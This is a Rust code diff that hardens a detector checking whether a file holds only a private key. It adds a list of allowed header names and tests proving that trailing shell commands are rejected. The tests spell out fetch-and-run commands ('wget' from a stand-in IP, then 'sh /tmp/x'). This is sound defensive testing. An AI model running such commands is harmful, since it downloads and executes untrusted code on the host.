@@ -63,6 +63,31 @@ pub(crate) struct As<'a> {
 /// The largest file that is taken for a private key.
 const LARGEST_KEY: u64 = 64 << 10;
 
+/// What is told before and between the lines of a key: by RFC 1421, by `openssl pkcs12`, and by
+/// PuTTY ("PPK file format").
+const TOLD: [&[u8]; 20] = [
+    b"Argon2-Memory",
+    b"Argon2-Parallelism",
+    b"Argon2-Passes",
+    b"Argon2-Salt",
+    b"Comment",
+    b"DEK-Info",
+    b"Encryption",
+    b"Key-Derivation",
+    b"Microsoft CSP Name",
+    b"Private-Hash",
+    b"Private-Lines",
+    b"Private-MAC",
+    b"Proc-Type",
+    b"Public-Lines",
+    b"PuTTY-User-Key-File-1",
+    b"PuTTY-User-Key-File-2",
+    b"PuTTY-User-Key-File-3",
+    b"X509v3 Key Usage",
+    b"friendlyName",
+    b"localKeyID",
+];
+
 /// Returns whether a whole file is a private key and nothing else (RFC 7468, and OpenSSH's and
 /// PuTTY's own forms). One line that says so would keep a program or a page out of the evidence, so
 /// every line must be such as these files have.
@@ -73,21 +98,48 @@ fn is_private_key(bytes: &[u8]) -> bool {
         let label = line.strip_prefix(b"-----BEGIN ").and_then(|it| it.strip_suffix(b"-----"));
         let is_end = line.starts_with(b"-----END ") && line.ends_with(b"-----");
         let base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
-        // `Proc-Type: 4,ENCRYPTED`, `Bag Attributes`, `subject=CN = web01`.
-        let told = |byte: &u8| byte.is_ascii_alphanumeric() || b" -:,.=_/@*+".contains(byte);
         match label {
-            Some(label) if !inside && label.iter().all(told) => {
+            Some(label) if !inside && label.iter().all(is_plain) => {
                 inside = true;
                 has_key |= label.ends_with(b"PRIVATE KEY");
             }
             Some(_) => return false,
             None if is_end => inside = false,
-            None if inside && line.iter().all(base64) => {}
-            None if line.len() <= 200 && line.iter().all(told) => {}
+            None if (inside || putty) && line.iter().all(base64) => {}
+            None if line.len() <= 200 && is_told(line) => {}
             None => return false,
         }
     }
     has_key
+}
+
+fn is_plain(byte: &u8) -> bool {
+    byte.is_ascii_alphanumeric() || b" -:,.=_/@*+".contains(byte)
+}
+
+/// Returns whether a line beside a key's own tells of it: `Proc-Type: 4,ENCRYPTED`, `Bag
+/// Attributes`, `subject=CN = web01`. None of them gets far where lines are commands.
+fn is_told(line: &[u8]) -> bool {
+    // Nothing, or a word of explanation (RFC 7468, section 2).
+    let is_word = line.iter().all(u8::is_ascii_alphanumeric);
+    if is_word || [&b"Bag Attributes"[..], b"Key Attributes"].contains(&line) {
+        return true;
+    }
+    if !line.iter().all(is_plain) {
+        return false;
+    }
+    let names = line.strip_prefix(b"subject=").or_else(|| line.strip_prefix(b"issuer="));
+    if let Some(names) = names {
+        // What stands before each sign is the name of an attribute, one word.
+        let is_one = |part: &[u8]| {
+            let name = part.split(|&byte| byte == b'=').next().unwrap_or_default();
+            part.contains(&b'=') && !name.trim_ascii().contains(&b' ')
+        };
+        return names.is_empty() || names.split(|&byte| byte == b',').all(is_one);
+    }
+    line.iter()
+        .position(|&byte| byte == b':')
+        .is_some_and(|end| line.get(..end).is_some_and(|name| TOLD.contains(&name)))
 }
 
 /// What of a file must stay the same while it is read.
@@ -306,6 +358,16 @@ mod tests {
         let script = format!("#!/bin/sh\n: <<'{KEY}'\nid\n");
         let certificate = KEY.replace("RSA PRIVATE KEY", "CERTIFICATE");
         let binary = [KEY.as_bytes(), b"\x7fELF\0"].concat();
+        // Commands of plain characters alone, after a key that is one.
+        let commands = [
+            format!("{KEY}wget http://192.0.2.7/x -O /tmp/x\nsh /tmp/x\n"),
+            format!("{KEY}subject=CN wget http://192.0.2.7/x\n"),
+            format!("{KEY}command: wget http://192.0.2.7/x\n"),
+            "PuTTY-User-Key-File-3: x\nsh /tmp/x\n".to_owned(),
+        ];
+        for other in &commands {
+            assert!(!is_private_key(other.as_bytes()), "{other}");
+        }
         for other in [page.as_bytes(), script.as_bytes(), certificate.as_bytes(), &binary, b""] {
             assert!(!is_private_key(other), "{}", String::from_utf8_lossy(other));
         }
